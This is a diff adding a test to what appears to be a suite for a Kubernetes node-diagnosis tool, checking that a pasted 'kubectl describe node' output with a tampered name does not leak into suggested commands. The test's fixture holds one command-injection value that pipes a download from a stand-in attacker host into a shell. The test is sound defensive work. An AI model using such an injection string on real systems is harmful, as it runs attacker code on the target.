@@ -108,6 +108,21 @@ describe('kubectl describe node', () => {
     ]);
   });
 
+  it('never puts a pasted name that is not a node name into a command', () => {
+    const hostile = fixture('describe-node.txt').replace(
+      /^Name: +\S+$/m,
+      "Name:               worker-3;$(curl-evil.example|sh)'",
+    );
+    const journal =
+      'Nov 23 03:04:27 worker-3 kubelet[1893]: E1123 03:04:27.118180    1893 remote_runtime.go:407] "ListPodSandbox with filter from runtime service failed" err="rpc error: code = DeadlineExceeded desc = context deadline exceeded" filter="nil"';
+    const d = diagnoseText(`${hostile}\n${journal}\n`);
+    const commands = d.causes.flatMap((c) => c.commands.map((x) => x.command)).join('\n');
+    expect(d.node).toBeUndefined();
+    expect(d.observed.runtime).toBe('containerd');
+    expect(commands).toContain('kubectl describe node "$NODE"');
+    expect(commands).not.toContain('evil.example');
+  });
+
   it('reads only the events of a described pod (its conditions are not the node’s)', () => {
     const pod = [
       'Name:             web-7d9f',
